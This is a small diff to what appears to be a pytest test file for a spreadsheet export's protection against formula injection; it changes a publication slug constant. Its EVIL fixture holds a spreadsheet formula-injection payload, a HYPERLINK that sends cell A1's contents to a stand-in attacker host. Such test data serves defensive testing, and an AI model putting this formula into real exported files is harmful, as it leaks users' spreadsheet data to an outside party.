@@ -10,7 +10,7 @@ import pytest
 from rawan.web.spreadsheet import csv_cell, dangerous
 
 pytestmark = pytest.mark.django_db
-PUB = "contoh-ikp-2024-jambi"
+PUB = "ikp-2024-jambi"  # results-only: its download table is filled from the stored rows edited below
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
 
 
